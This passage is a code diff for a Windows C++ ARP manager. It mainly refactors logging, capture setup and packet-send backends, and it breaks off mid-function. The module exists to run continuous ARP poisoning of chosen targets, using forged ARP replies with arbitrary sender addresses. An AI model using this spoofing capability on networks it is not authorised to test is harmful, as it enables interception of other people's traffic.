@@ -1,4 +1,7 @@
 #include "arp.h"
+#include "ring_log.h"
+#include "capture_filter.h"
+#include "device_table.h"
 #include <chrono>
 #include <iostream>
 #include <sstream>
@@ -29,7 +32,8 @@ static std::string PWCHARToString(PWCHAR pwchar) {
 std::unique_ptr<ArpManager> g_arp_manager;
 
 // ARP Manager Implementation
-ArpManager::ArpManager() : pcap_handle(nullptr), is_initialized(false), poisoning_active(false) {
+ArpManager::ArpManager() : pcap_handle(nullptr), is_initialized(false),
+    capture_profile_(GetCaptureProfile(kCaptureLowLatency)), capture_buffer_bytes_(0), poisoning_active(false) {
     initializeBuffers();
     resetPerformanceStats();
     poisoning_worker_ = std::make_unique<PoisoningWorker>(this);
@@ -39,101 +43,138 @@ ArpManager::~ArpManager() {
     cleanup();
 }
 
+// Open device with pcap_create/pcap_activate as profile asks. Options the
+// driver rejects are logged and skipped rather than failing the open.
+static pcap_t* OpenCapture(const std::string& device, const CaptureProfile& profile, size_t buffer_bytes,
+                           bool& nanosecond_timestamps, char* errbuf) {
+    pcap_t* handle = pcap_create(device.c_str(), errbuf);
+    if (!handle) return nullptr;
+
+    pcap_set_snaplen(handle, static_cast<int>(profile.snaplen));
+    pcap_set_promisc(handle, profile.promiscuous ? 1 : 0);
+    pcap_set_timeout(handle, profile.timeout_ms);
+    if (pcap_set_buffer_size(handle, static_cast<int>(buffer_bytes)) != 0) {
+        NS_LOG_WARN("ARP Manager: Capture buffer of %u bytes not accepted\n", static_cast<unsigned>(buffer_bytes));
+    }
+    if (profile.immediate && pcap_set_immediate_mode(handle, 1) != 0) {
+        NS_LOG_WARN("ARP Manager: Immediate mode not supported, frames may be batched\n");
+    }
+    nanosecond_timestamps = profile.nanosecond_timestamps &&
+        pcap_set_tstamp_precision(handle, PCAP_TSTAMP_PRECISION_NANO) == 0;
+
+    int status = pcap_activate(handle);
+    if (status < 0) {
+        snprintf(errbuf, PCAP_ERRBUF_SIZE, "%s", pcap_geterr(handle));
+        pcap_close(handle);
+        return nullptr;
+    }
+    if (status > 0) {
+        NS_LOG_WARN("ARP Manager: pcap_activate warning: %s\n", std::string(pcap_geterr(handle)));
+    }
+    return handle;
+}
+
 bool ArpManager::initialize(const std::string& adapter_name) {
     if (is_initialized) {
         cleanup();
     }
     
     auto start_time = std::chrono::high_resolution_clock::now();
-    printf("ARP Manager: Starting initialization for adapter '%s'\n", adapter_name.c_str());
+    NS_LOG_INFO("ARP Manager: Starting initialization for adapter '%s'\n", adapter_name.c_str());
     
     // Validate adapter name
-    if (!validateAdapter(adapter_name)) {
+    NetworkAdapter adapter;
+    if (!validateAdapter(adapter_name, &adapter)) {
         setError("Invalid adapter name: " + adapter_name);
-        printf("ARP Manager: ERROR - Adapter validation failed for '%s'\n", adapter_name.c_str());
+        NS_LOG_ERROR("ARP Manager: ERROR - Adapter validation failed for '%s'\n", adapter_name.c_str());
         return false;
     }
-    printf("ARP Manager: Adapter validation successful\n");
+    NS_LOG_INFO("ARP Manager: Adapter validation successful\n");
     
     // Map Windows adapter name to Npcap device name (Phase 2 enhancement)
     std::string pcap_device_name = mapAdapterNameToPcap(adapter_name);
     if (pcap_device_name.empty()) {
-        printf("ARP Manager: Warning - Could not map adapter '%s' to pcap device name\n", adapter_name.c_str());
-        printf("ARP Manager: Attempting direct connection (legacy Phase 1 mode)\n");
+        NS_LOG_WARN("ARP Manager: Warning - Could not map adapter '%s' to pcap device name\n", adapter_name.c_str());
+        NS_LOG_INFO("ARP Manager: Attempting direct connection (legacy Phase 1 mode)\n");
         pcap_device_name = adapter_name;
     } else {
-        printf("ARP Manager: Mapped adapter '%s' to pcap device '%s'\n", adapter_name.c_str(), pcap_device_name.c_str());
+        NS_LOG_INFO("ARP Manager: Mapped adapter '%s' to pcap device '%s'\n", adapter_name.c_str(), pcap_device_name.c_str());
     }
     
-    // Open adapter for packet capture
+    // Open adapter for packet capture; the buffer is sized from the link rate
     char errbuf[PCAP_ERRBUF_SIZE];
-    pcap_handle = pcap_open_live(pcap_device_name.c_str(), 65536, 1, 1000, errbuf);
+    bool nanosecond_timestamps = false;
+    capture_buffer_bytes_ = CaptureBufferBytes(capture_profile_, adapter.link_speed_bps);
+    pcap_handle = OpenCapture(pcap_device_name, capture_profile_, capture_buffer_bytes_, nanosecond_timestamps, errbuf);
     
     if (pcap_handle == nullptr) {
-        printf("ARP Manager: ERROR - Failed to open pcap adapter '%s': %s\n", pcap_device_name.c_str(), errbuf);
+        NS_LOG_ERROR("ARP Manager: ERROR - Failed to open pcap adapter '%s': %s\n", pcap_device_name.c_str(), errbuf);
         if (pcap_device_name != adapter_name) {
-            printf("ARP Manager: ERROR - Phase 2 adapter mapping failed - this indicates Npcap configuration issues\n");
+            NS_LOG_ERROR("ARP Manager: ERROR - Phase 2 adapter mapping failed - this indicates Npcap configuration issues\n");
         } else {
-            printf("ARP Manager: ERROR - This is expected in Phase 1 - pcap requires device names like \\Device\\NPF_{GUID}\n");
+            NS_LOG_ERROR("ARP Manager: ERROR - This is expected in Phase 1 - pcap requires device names like \\Device\\NPF_{GUID}\n");
         }
         pcap_handle = nullptr; // Set to null to indicate no pcap
         // Continue with initialization for fallback topology discovery
     } else {
-        printf("ARP Manager: Successfully opened pcap device '%s'\n", pcap_device_name.c_str());
+        NS_LOG_INFO("ARP Manager: Successfully opened pcap device '%s' (%s profile, %u KB buffer)\n", pcap_device_name.c_str(),
+                    CapturePresetName(capture_profile_.preset), static_cast<unsigned>(capture_buffer_bytes_ >> 10));
+        packet_io_ = std::make_unique<PcapPacketIO>(pcap_handle, nanosecond_timestamps);
     }
     
     // Set non-blocking mode for performance (only if pcap is available)
     if (pcap_handle && pcap_setnonblock(pcap_handle, 1, errbuf) == -1) {
-        printf("ARP Manager: ERROR - Failed to set non-blocking mode: %s (continuing for Phase 1 testing)\n", errbuf);
+        NS_LOG_WARN("ARP Manager: WARNING - Failed to set non-blocking mode: %s (continuing for Phase 1 testing)\n", errbuf);
         // Continue anyway for Phase 1 testing
     }
     
     // Discover network topology
-    printf("ARP Manager: Discovering network topology...\n");
+    NS_LOG_INFO("ARP Manager: Discovering network topology...\n");
     network_info = discoverNetworkTopology(adapter_name);
     if (!network_info.is_valid) {
-        printf("ARP Manager: ERROR - Network topology discovery failed for '%s', trying alternative method\n", adapter_name.c_str());
+        NS_LOG_WARN("ARP Manager: WARNING - Network topology discovery failed for '%s', trying alternative method\n", adapter_name.c_str());
         // Try alternative topology discovery using Windows IP Helper API
         network_info = discoverNetworkTopologyAlternative();
         if (!network_info.is_valid) {
             setError("Failed to discover network topology using any method");
-            printf("ARP Manager: ERROR - Alternative topology discovery also failed\n");
+            NS_LOG_ERROR("ARP Manager: ERROR - Alternative topology discovery also failed\n");
             cleanup();
             return false;
         }
     }
     
     // Ensure gateway MAC is resolved - Step 3 requirement
-    printf("ARP Manager: Checking gateway MAC resolution...\n");
+    NS_LOG_INFO("ARP Manager: Checking gateway MAC resolution...\n");
     if (network_info.gateway_mac.empty() || network_info.gateway_mac == "00:00:00:00:00:00") {
-        printf("ARP Manager: Gateway MAC not resolved, attempting discovery with retries...\n");
+        NS_LOG_INFO("ARP Manager: Gateway MAC not resolved, attempting discovery with retries...\n");
         
         // Retry gateway MAC discovery up to 3 times with increasing wait times
         for (int retry = 0; retry < 3 && (network_info.gateway_mac.empty() || network_info.gateway_mac == "00:00:00:00:00:00"); retry++) {
-            printf("ARP Manager: Gateway MAC discovery attempt %d/3\n", retry + 1);
+            NS_LOG_INFO("ARP Manager: Gateway MAC discovery attempt %d/3\n", retry + 1);
             
             std::string discovered_mac = discoverGatewayMac(network_info.gateway_ip);
             if (!discovered_mac.empty() && discovered_mac != "00:00:00:00:00:00") {
                 network_info.gateway_mac = discovered_mac;
-                printf("ARP Manager: Gateway MAC successfully resolved: %s\n", discovered_mac.c_str());
+                NS_LOG_INFO("ARP Manager: Gateway MAC successfully resolved: %s\n", discovered_mac.c_str());
                 break;
             }
             
             // Wait progressively longer between retries (500ms, 1000ms, 2000ms)
             int wait_time = 500 * (retry + 1);
-            printf("ARP Manager: Gateway MAC not found, waiting %dms before retry...\n", wait_time);
+            NS_LOG_WARN("ARP Manager: Gateway MAC not found, waiting %dms before retry...\n", wait_time);
             Sleep(wait_time);
         }
         
         if (network_info.gateway_mac.empty() || network_info.gateway_mac == "00:00:00:00:00:00") {
-            printf("ARP Manager: WARNING - Gateway MAC could not be resolved after retries. This may affect ARP poisoning functionality.\n");
+            NS_LOG_WARN("ARP Manager: WARNING - Gateway MAC could not be resolved after retries. This may affect ARP poisoning functionality.\n");
             // Continue initialization - gateway MAC can be resolved later
         }
     } else {
-        printf("ARP Manager: Gateway MAC already resolved: %s\n", network_info.gateway_mac.c_str());
+        NS_LOG_INFO("ARP Manager: Gateway MAC already resolved: %s\n", network_info.gateway_mac.c_str());
     }
     
     is_initialized = true;
+    updateCaptureFilter();
     
     auto end_time = std::chrono::high_resolution_clock::now();
     auto duration = std::chrono::duration_cast<std::chrono::microseconds>(end_time - start_time);
@@ -142,17 +183,37 @@ bool ArpManager::initialize(const std::string& adapter_name) {
     char debug_msg[256];
     sprintf_s(debug_msg, sizeof(debug_msg), "ARP Manager initialized successfully in %lld microseconds\n", duration.count());
     OutputDebugStringA(debug_msg);
-    printf("ARP Manager: Initialization completed successfully\n");
+    NS_LOG_INFO("ARP Manager: Initialization completed successfully\n");
     
     return true;
 }
 
+bool ArpManager::initializeWithBackend(const NetworkInfo& info, std::shared_ptr<PacketIO> io) {
+    if (is_initialized) {
+        cleanup();
+    }
+    
+    if (!io || !info.is_valid) {
+        setError("Invalid backend or network information");
+        return false;
+    }
+    
+    network_info = info;
+    packet_io_ = std::move(io);
+    is_initialized = true;
+    updateCaptureFilter();
+    NS_LOG_INFO("ARP Manager: Initialized on custom backend (%s, gateway %s)\n",
+                network_info.local_ip, network_info.gateway_ip);
+    return true;
+}
+
 void ArpManager::cleanup() {
     // Stop poisoning worker first
     if (poisoning_worker_) {
         poisoning_worker_->stopAll();
     }
     
+    packet_io_.reset();
     if (pcap_handle) {
         pcap_close(pcap_handle);
         pcap_handle = nullptr;
@@ -187,6 +248,8 @@ std::vector<NetworkAdapter> ArpManager::enumerateAdapters() {
                 netAdapter.friendly_name = PWCHARToString(adapter->FriendlyName);
                 netAdapter.is_active = (adapter->OperStatus == IfOperStatusUp);
                 netAdapter.is_wireless = (adapter->IfType == IF_TYPE_IEEE80211);
+                // ReceiveLinkSpeed is all ones when the driver does not know
+                netAdapter.link_speed_bps = adapter->ReceiveLinkSpeed == ~0ULL ? 0 : adapter->ReceiveLinkSpeed;
                 
                 // Get MAC address
                 if (adapter->PhysicalAddressLength == 6) {
@@ -308,41 +371,23 @@ bool ArpManager::sendArpRequest(const std::string& target_ip) {
     }
     
     // Prepare ARP request frame
-    ArpFrame* frame = reinterpret_cast<ArpFrame*>(arp_buffer.data());
-    memset(frame, 0, sizeof(ArpFrame));
-    
-    // Ethernet header
-    memset(frame->eth.dest_mac, 0xFF, 6); // Broadcast MAC
-    memcpy(frame->eth.src_mac, local_mac_bytes, 6);
-    frame->eth.ethertype = htons(0x0806); // ARP
-    
-    // ARP packet
-    frame->arp.hardware_type = htons(1);    // Ethernet
-    frame->arp.protocol_type = htons(0x0800); // IPv4
-    frame->arp.hardware_len = 6;
-    frame->arp.protocol_len = 4;
-    frame->arp.operation = htons(1);        // Request
-    memcpy(frame->arp.sender_mac, local_mac_bytes, 6);
-    memcpy(frame->arp.sender_ip, local_ip_bytes, 4);
-    memset(frame->arp.target_mac, 0, 6);    // Unknown
-    memcpy(frame->arp.target_ip, target_ip_bytes, 4);
-    
-    // Send packet (check if pcap_handle is available)
-    int result = -1;
-    if (pcap_handle) {
-        result = pcap_sendpacket(pcap_handle, arp_buffer.data(), sizeof(ArpFrame));
+    BuildArpRequest(*arp_frame, local_mac_bytes, local_ip_bytes, target_ip_bytes);
+    
+    // Send packet (check if a packet backend is available)
+    bool success = false;
+    if (packet_io_) {
+        success = packet_io_->send(arp_buffer.data(), sizeof(ArpFrame));
     } else {
         setError("Pcap handle not available - ensure proper adapter initialization");
     }
     
     auto end_time = std::chrono::high_resolution_clock::now();
-    auto duration = std::chrono::duration_cast<std::chrono::microseconds>(end_time - start_time);
+    auto duration = std::chrono::duration_cast<std::chrono::nanoseconds>(end_time - start_time);
     
-    bool success = (result == 0);
-    updatePerformanceStats(true, duration.count() / 1000.0, success);
+    updatePerformanceStats(true, static_cast<uint64_t>(duration.count()), success);
     
-    if (!success) {
-        setError("Failed to send ARP request: " + std::string(pcap_geterr(pcap_handle)));
+    if (!success && packet_io_) {
+        setError("Failed to send ARP request: " + packet_io_->lastError());
     }
     
     return success;
@@ -370,48 +415,30 @@ bool ArpManager::sendArpReply(const std::string& sender_ip, const std::string& t
     }
     
     // Prepare ARP reply frame
-    ArpFrame* frame = reinterpret_cast<ArpFrame*>(arp_buffer.data());
-    memset(frame, 0, sizeof(ArpFrame));
-    
-    // Ethernet header
-    memcpy(frame->eth.dest_mac, target_mac_bytes, 6);
-    memcpy(frame->eth.src_mac, sender_mac_bytes, 6);
-    frame->eth.ethertype = htons(0x0806); // ARP
-    
-    // ARP packet
-    frame->arp.hardware_type = htons(1);    // Ethernet
-    frame->arp.protocol_type = htons(0x0800); // IPv4
-    frame->arp.hardware_len = 6;
-    frame->arp.protocol_len = 4;
-    frame->arp.operation = htons(2);        // Reply
-    memcpy(frame->arp.sender_mac, sender_mac_bytes, 6);
-    memcpy(frame->arp.sender_ip, sender_ip_bytes, 4);
-    memcpy(frame->arp.target_mac, target_mac_bytes, 6);
-    memcpy(frame->arp.target_ip, target_ip_bytes, 4);
-    
-    // Send packet (check if pcap_handle is available)
-    int result = -1;
-    if (pcap_handle) {
-        result = pcap_sendpacket(pcap_handle, arp_buffer.data(), sizeof(ArpFrame));
+    BuildArpReply(*arp_frame, sender_mac_bytes, sender_ip_bytes, target_mac_bytes, target_ip_bytes);
+    
+    // Send packet (check if a packet backend is available)
+    bool success = false;
+    if (packet_io_) {
+        success = packet_io_->send(arp_buffer.data(), sizeof(ArpFrame));
     } else {
         setError("Pcap handle not available - ensure proper adapter initialization");
     }
     
     auto end_time = std::chrono::high_resolution_clock::now();
-    auto duration = std::chrono::duration_cast<std::chrono::microseconds>(end_time - start_time);
+    auto duration = std::chrono::duration_cast<std::chrono::nanoseconds>(end_time - start_time);
     
-    bool success = (result == 0);
-    updatePerformanceStats(true, duration.count() / 1000.0, success);
+    updatePerformanceStats(true, static_cast<uint64_t>(duration.count()), success);
     
-    if (!success && pcap_handle) {
-        setError("Failed to send ARP reply: " + std::string(pcap_geterr(pcap_handle)));
+    if (!success && packet_io_) {
+        setError("Failed to send ARP reply: " + packet_io_->lastError());
     }
     
     return success;
 }
 
 std::string ArpManager::discoverGatewayMac(const std::string& gateway_ip) {
-    printf("ARP Manager: Attempting to discover MAC for gateway %s...\n", gateway_ip.c_str());
+    NS_LOG_INFO("ARP Manager: Attempting to discover MAC for gateway %s...\n", gateway_ip.c_str());
     
     // Try to find gateway MAC in ARP table first
     ULONG bufferSize = 0;
@@ -426,67 +453,83 @@ std::string ArpManager::discoverGatewayMac(const std::string& gateway_ip) {
         if (result == NO_ERROR) {
             struct in_addr gateway_addr;
             if (inet_pton(AF_INET, gateway_ip.c_str(), &gateway_addr) != 1) {
-                printf("ARP Manager: ERROR - Invalid gateway IP address format: %s\n", gateway_ip.c_str());
+                NS_LOG_ERROR("ARP Manager: ERROR - Invalid gateway IP address format: %s\n", gateway_ip.c_str());
                 return "";
             }
             
             for (DWORD i = 0; i < pIpNetTable->dwNumEntries; i++) {
                 if (pIpNetTable->table[i].dwAddr == gateway_addr.s_addr) {
                     std::string found_mac = macToString(pIpNetTable->table[i].bPhysAddr);
-                    printf("ARP Manager: Found gateway MAC in ARP table: %s\n", found_mac.c_str());
+                    NS_LOG_INFO("ARP Manager: Found gateway MAC in ARP table: %s\n", found_mac.c_str());
                     return found_mac;
                 }
             }
-            printf("ARP Manager: Gateway MAC not found in ARP table (%d entries checked)\n", pIpNetTable->dwNumEntries);
+            NS_LOG_WARN("ARP Manager: Gateway MAC not found in ARP table (%d entries checked)\n", pIpNetTable->dwNumEntries);
         } else {
-            printf("ARP Manager: ERROR - Failed to get ARP table: %lu\n", result);
+            NS_LOG_ERROR("ARP Manager: ERROR - Failed to get ARP table: %lu\n", result);
         }
     } else {
-        printf("ARP Manager: ERROR - Failed to get ARP table buffer size: %lu\n", result);
+        NS_LOG_ERROR("ARP Manager: ERROR - Failed to get ARP table buffer size: %lu\n", result);
     }
     
-    // If not found in ARP table and we have pcap handle, try ARP request
-    if (pcap_handle) {
-        printf("ARP Manager: Sending ARP request to discover gateway MAC...\n");
+    // If not found in ARP table and we can send, try ARP request
+    if (packet_io_) {
+        NS_LOG_INFO("ARP Manager: Sending ARP request to discover gateway MAC...\n");
+        auto request_time = std::chrono::steady_clock::now();
         if (sendArpRequest(gateway_ip)) {
-            // Wait briefly for response and check ARP table again (avoid recursion)
-            printf("ARP Manager: Waiting for ARP response...\n");
-            Sleep(500);
-            
-            // Re-query buffer size as it may have changed
-            bufferSize = 0;
-            result = GetIpNetTable(nullptr, &bufferSize, FALSE);
+            // Poll the ARP table for the reply rather than sleeping a fixed
+            // 500ms; the time until it shows up is the receive latency
+            NS_LOG_INFO("ARP Manager: Waiting for ARP response...\n");
+            struct in_addr gateway_addr;
+            inet_pton(AF_INET, gateway_ip.c_str(), &gateway_addr);
+            const auto deadline = request_time + std::chrono::milliseconds(500);
             
-            if (result == ERROR_INSUFFICIENT_BUFFER) {
-                auto buffer = std::make_unique<char[]>(bufferSize);
-                PMIB_IPNETTABLE pIpNetTable = reinterpret_cast<PMIB_IPNETTABLE>(buffer.get());
+            while (std::chrono::steady_clock::now() < deadline) {
+                Sleep(10);
                 
-                result = GetIpNetTable(pIpNetTable, &bufferSize, FALSE);
-                
-                if (result == NO_ERROR) {
-                    struct in_addr gateway_addr;
-                    inet_pton(AF_INET, gateway_ip.c_str(), &gateway_addr);
-                    
-                    for (DWORD i = 0; i < pIpNetTable->dwNumEntries; i++) {
-                        if (pIpNetTable->table[i].dwAddr == gateway_addr.s_addr) {
-                            std::string found_mac = macToString(pIpNetTable->table[i].bPhysAddr);
-                            printf("ARP Manager: Gateway MAC discovered via ARP request: %s\n", found_mac.c_str());
-                            return found_mac;
-                        }
-                    }
-                } else {
-                    printf("ARP Manager: ERROR - Failed to re-query ARP table after request: %lu\n", result);
+                std::string found_mac = findArpTableMac(gateway_addr.s_addr);
+                if (!found_mac.empty()) {
+                    auto elapsed = std::chrono::duration_cast<std::chrono::nanoseconds>(
+                        std::chrono::steady_clock::now() - request_time);
+                    updatePerformanceStats(false, static_cast<uint64_t>(elapsed.count()), true);
+                    NS_LOG_INFO("ARP Manager: Gateway MAC discovered via ARP request: %s\n", found_mac.c_str());
+                    return found_mac;
                 }
             }
+            
+            auto elapsed = std::chrono::duration_cast<std::chrono::nanoseconds>(
+                std::chrono::steady_clock::now() - request_time);
+            updatePerformanceStats(false, static_cast<uint64_t>(elapsed.count()), false);
+            NS_LOG_WARN("ARP Manager: No ARP response from gateway within 500ms\n");
         } else {
-            printf("ARP Manager: ERROR - Failed to send ARP request for gateway discovery\n");
+            NS_LOG_ERROR("ARP Manager: ERROR - Failed to send ARP request for gateway discovery\n");
         }
     } else {
-        printf("ARP Manager: WARNING - No pcap handle available for active ARP discovery\n");
+        NS_LOG_WARN("ARP Manager: WARNING - No pcap handle available for active ARP discovery\n");
     }
     
     // Return empty string if not found - this is acceptable
-    printf("ARP Manager: Gateway MAC discovery failed - returning empty\n");
+    NS_LOG_WARN("ARP Manager: Gateway MAC discovery failed - returning empty\n");
+    return "";
+}
+
+std::string ArpManager::findArpTableMac(uint32_t addr) {
+    ULONG bufferSize = 0;
+    if (GetIpNetTable(nullptr, &bufferSize, FALSE) != ERROR_INSUFFICIENT_BUFFER) {
+        return "";
+    }
+    
+    auto buffer = std::make_unique<char[]>(bufferSize);
+    PMIB_IPNETTABLE pIpNetTable = reinterpret_cast<PMIB_IPNETTABLE>(buffer.get());
+    if (GetIpNetTable(pIpNetTable, &bufferSize, FALSE) != NO_ERROR) {
+        return "";
+    }
+    
+    for (DWORD i = 0; i < pIpNetTable->dwNumEntries; i++) {
+        if (pIpNetTable->table[i].dwAddr == addr && pIpNetTable->table[i].dwPhysAddrLen == 6) {
+            return macToString(pIpNetTable->table[i].bPhysAddr);
+        }
+    }
     return "";
 }
 
@@ -498,59 +541,40 @@ bool ArpManager::refreshGatewayMac() {
     std::string new_gateway_mac = discoverGatewayMac(network_info.gateway_ip);
     if (!new_gateway_mac.empty() && new_gateway_mac != "00:00:00:00:00:00") {
         network_info.gateway_mac = new_gateway_mac;
-        printf("ARP Manager: Gateway MAC refreshed - %s (%s)\n", 
-               network_info.gateway_ip.c_str(), network_info.gateway_mac.c_str());
+        NS_LOG_INFO("ARP Manager: Gateway MAC refreshed - %s (%s)\n", 
+                    network_info.gateway_ip.c_str(), network_info.gateway_mac.c_str());
         return true;
     }
     
     return false;
 }
 
-// Utility functions
-std::string ArpManager::macToString(const uint8_t* mac) {
-    std::stringstream ss;
-    for (int i = 0; i < 6; ++i) {
-        if (i > 0) ss << ":";
-        ss << std::hex << std::setw(2) << std::setfill('0') << static_cast<int>(mac[i]);
-    }
-    return ss.str();
-}
-
-bool ArpManager::stringToMac(const std::string& mac_str, uint8_t* mac) {
-    if (mac_str.length() != 17) return false;
-    
-    for (int i = 0; i < 6; ++i) {
-        std::string byte_str = mac_str.substr(i * 3, 2);
-        try {
-            mac[i] = static_cast<uint8_t>(std::stoi(byte_str, nullptr, 16));
-        } catch (...) {
-            return false;
-        }
-    }
-    return true;
-}
-
-bool ArpManager::stringToIp(const std::string& ip_str, uint8_t* ip) {
-    struct in_addr addr;
-    if (inet_pton(AF_INET, ip_str.c_str(), &addr) != 1) {
-        return false;
-    }
-    
-    memcpy(ip, &addr, 4);
-    return true;
-}
-
-std::string ArpManager::ipToString(const uint8_t* ip) {
-    return std::to_string(ip[0]) + "." + std::to_string(ip[1]) + "." + 
-           std::to_string(ip[2]) + "." + std::to_string(ip[3]);
-}
+// String utilities (macToString, stringToMac, ...) are in arp_frame.cpp
 
 ArpManager::PerformanceStats ArpManager::getPerformanceStats() const {
-    return perf_stats;
+    ArpStats::Snapshot snapshot = GetArpStats().snapshot();
+    
+    PerformanceStats stats;
+    stats.packets_sent = snapshot.packets_sent;
+    stats.packets_received = snapshot.packets_received;
+    stats.send_errors = snapshot.send_errors;
+    stats.receive_errors = snapshot.receive_errors;
+    stats.send_latency = snapshot.send_latency;
+    stats.receive_latency = snapshot.receive_latency;
+    stats.avg_send_time_ms = stats.send_latency.mean_ms;
+    stats.avg_receive_time_ms = stats.receive_latency.mean_ms;
+    stats.capture_profile = CapturePresetName(capture_profile_.preset);
+    stats.capture_buffer_bytes = capture_buffer_bytes_;
+    stats.capture = CaptureStats();
+    if (packet_io_) {
+        packet_io_->captureStats(stats.capture);
+    }
+    return stats;
 }
 
 void ArpManager::resetPerformanceStats() {
-    memset(&perf_stats, 0, sizeof(perf_stats));
+    // Starts a new epoch; writer threads clear their own blocks lazily
+    GetArpStats().reset();
 }
 
 // Alternative network topology discovery using Windows IP Helper API
@@ -627,8 +651,8 @@ NetworkInfo ArpManager::discoverNetworkTopologyAlternative() {
                     }
                     
                     info.is_valid = true;
-                    printf("ARP Manager: Alternative topology discovery successful - IP: %s, Gateway: %s (%s), Subnet: %s/%d\n",
-                           info.local_ip.c_str(), info.gateway_ip.c_str(), info.gateway_mac.c_str(), info.subnet_mask.c_str(), info.subnet_cidr);
+                    NS_LOG_INFO("ARP Manager: Alternative topology discovery successful - IP: %s, Gateway: %s (%s), Subnet: %s/%d\n",
+                                info.local_ip.c_str(), info.gateway_ip.c_str(), info.gateway_mac.c_str(), info.subnet_mask.c_str(), info.subnet_cidr);
                     break;
                 }
             }
@@ -636,7 +660,7 @@ NetworkInfo ArpManager::discoverNetworkTopologyAlternative() {
     }
     
     if (!info.is_valid) {
-        printf("ARP Manager: Alternative topology discovery failed\n");
+        NS_LOG_WARN("ARP Manager: Alternative topology discovery failed\n");
     }
     
     return info;
@@ -644,15 +668,19 @@ NetworkInfo ArpManager::discoverNetworkTopologyAlternative() {
 
 void ArpManager::setError(const std::string& error) {
     last_error = error;
-    OutputDebugStringA(("ARP Manager Error: " + error + "\n").c_str());
+    // Rate limited: a dead adapter fails every send of the poisoning loop
+    NS_LOG_RATE(NS_LOG_LEVEL_ERROR, 5, "ARP Manager Error: %s\n", error);
 }
 
-bool ArpManager::validateAdapter(const std::string& adapter_name) {
+bool ArpManager::validateAdapter(const std::string& adapter_name, NetworkAdapter* found) {
     auto adapters = enumerateAdapters();
-    return std::find_if(adapters.begin(), adapters.end(), 
+    auto it = std::find_if(adapters.begin(), adapters.end(), 
         [&adapter_name](const NetworkAdapter& adapter) {
             return adapter.name == adapter_name;
-        }) != adapters.end();
+        });
+    if (it == adapters.end()) return false;
+    if (found) *found = *it;
+    return true;
 }
 
 void ArpManager::initializeBuffers() {
@@ -660,15 +688,11 @@ void ArpManager::initializeBuffers() {
     arp_frame = reinterpret_cast<ArpFrame*>(arp_buffer.data());
 }
 
-void ArpManager::updatePerformanceStats(bool is_send, double time_ms, bool success) {
+void ArpManager::updatePerformanceStats(bool is_send, uint64_t time_ns, bool success) {
     if (is_send) {
-        perf_stats.packets_sent++;
-        if (!success) perf_stats.send_errors++;
-        perf_stats.avg_send_time_ms = (perf_stats.avg_send_time_ms + time_ms) / 2.0;
+        GetArpStats().recordSend(time_ns, success);
     } else {
-        perf_stats.packets_received++;
-        if (!success) perf_stats.receive_errors++;
-        perf_stats.avg_receive_time_ms = (perf_stats.avg_receive_time_ms + time_ms) / 2.0;
+        GetArpStats().recordReceive(time_ns, success);
     }
 }
 
@@ -680,7 +704,7 @@ std::string ArpManager::mapAdapterNameToPcap(const std::string& windows_adapter_
     pcap_if_t* device;
     
     if (pcap_findalldevs(&alldevs, errbuf) == -1) {
-        printf("ARP Manager: Failed to enumerate pcap devices: %s\n", errbuf);
+        NS_LOG_WARN("ARP Manager: Failed to enumerate pcap devices: %s\n", errbuf);
         return "";
     }
     
@@ -702,8 +726,8 @@ std::string ArpManager::mapAdapterNameToPcap(const std::string& windows_adapter_
                 if (windows_adapter_name.find(device_guid) != std::string::npos ||
                     device_guid.find(windows_adapter_name) != std::string::npos) {
                     pcap_name = device_name;
-                    printf("ARP Manager: Found matching pcap device - GUID: %s -> Device: %s\n", 
-                           device_guid.c_str(), device_name.c_str());
+                    NS_LOG_INFO("ARP Manager: Found matching pcap device - GUID: %s -> Device: %s\n", 
+                                device_guid.c_str(), device_name.c_str());
                     break;
                 }
             }
@@ -713,7 +737,7 @@ std::string ArpManager::mapAdapterNameToPcap(const std::string& windows_adapter_
     pcap_freealldevs(alldevs);
     
     if (pcap_name.empty()) {
-        printf("ARP Manager: No matching pcap device found for adapter: %s\n", windows_adapter_name.c_str());
+        NS_LOG_WARN("ARP Manager: No matching pcap device found for adapter: %s\n", windows_adapter_name.c_str());
     }
     
     return pcap_name;
@@ -726,17 +750,14 @@ std::vector<std::string> ArpManager::enumeratePcapDevices() {
     pcap_if_t* device;
     
     if (pcap_findalldevs(&alldevs, errbuf) == -1) {
-        printf("ARP Manager: Failed to enumerate pcap devices: %s\n", errbuf);
+        NS_LOG_WARN("ARP Manager: Failed to enumerate pcap devices: %s\n", errbuf);
         return devices;
     }
     
     for (device = alldevs; device != nullptr; device = device->next) {
         devices.push_back(device->name);
-        printf("ARP Manager: Found pcap device: %s", device->name);
-        if (device->description) {
-            printf(" (%s)", device->description);
-        }
-        printf("\n");
+        NS_LOG_INFO("ARP Manager: Found pcap device: %s (%s)\n", device->name,
+                    device->description ? device->description : "no description");
     }
     
     pcap_freealldevs(alldevs);
@@ -745,24 +766,25 @@ std::vector<std::string> ArpManager::enumeratePcapDevices() {
 
 // Phase 2: ARP poisoning implementation - Updated for Step 4 continuous poisoning
 bool ArpManager::startArpPoisoning(const std::string& target_ip, const std::string& target_mac) {
-    if (!is_initialized || !pcap_handle) {
+    if (!is_initialized || !packet_io_) {
         setError("ARP Manager not properly initialized for poisoning operations");
         return false;
     }
     
     // Ensure we have gateway MAC for poisoning - refresh if needed
     if (network_info.gateway_mac.empty() || network_info.gateway_mac == "00:00:00:00:00:00") {
-        printf("ARP Manager: Gateway MAC not available, attempting to refresh...\n");
+        NS_LOG_INFO("ARP Manager: Gateway MAC not available, attempting to refresh...\n");
         refreshGatewayMac();
     }
     
-    printf("ARP Manager: Starting continuous ARP poisoning for target %s (%s)\n", target_ip.c_str(), target_mac.c_str());
+    NS_LOG_INFO("ARP Manager: Starting continuous ARP poisoning for target %s (%s)\n", target_ip.c_str(), target_mac.c_str());
     
     // Use the new PoisoningWorker for continuous poisoning
     if (poisoning_worker_) {
         bool success = poisoning_worker_->start(target_ip, target_mac);
         if (success) {
             poisoning_active = true;
+            updateCaptureFilter();
         }
         return success;
     }
@@ -772,15 +794,18 @@ bool ArpManager::startArpPoisoning(const std::string& target_ip, const std::stri
 }
 
 bool ArpManager::stopArpPoisoning(const std::string& target_ip) {
-    printf("ARP Manager: Stopping ARP poisoning for target %s\n", target_ip.c_str());
+    NS_LOG_INFO("ARP Manager: Stopping ARP poisoning for target %s\n", target_ip.c_str());
     
     if (poisoning_worker_) {
         bool success = poisoning_worker_->stop(target_ip);
+        if (success) {
+            updateCaptureFilter();
+        }
         
         // Update poisoning_active status
         if (success && !poisoning_worker_->isRunning()) {
             poisoning_active = false;
-            printf("ARP Manager: All ARP poisoning stopped\n");
